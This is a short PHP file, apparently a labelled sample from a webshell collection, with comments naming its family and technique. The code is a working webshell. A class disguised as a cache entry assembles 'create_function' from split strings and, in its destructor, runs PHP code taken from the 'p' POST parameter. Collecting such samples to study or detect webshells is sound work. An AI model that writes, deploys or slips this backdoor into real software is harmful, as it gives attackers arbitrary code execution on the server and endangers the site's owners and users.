<?php
// Family: webshell/eval-request
// Style: code kept in an object property, run by the destructor through a built lambda
// Trait: a property set from the request (by reference); a method turns $this->property into a function body and calls it
class Cache_Entry {
	function __destruct() {
		$mk = 'create_' . 'function';
		$mk = $mk('', $this->payload);
		return @$mk();
	}
}
$entry = new Cache_Entry();
$entry->payload = &$_POST['p'];
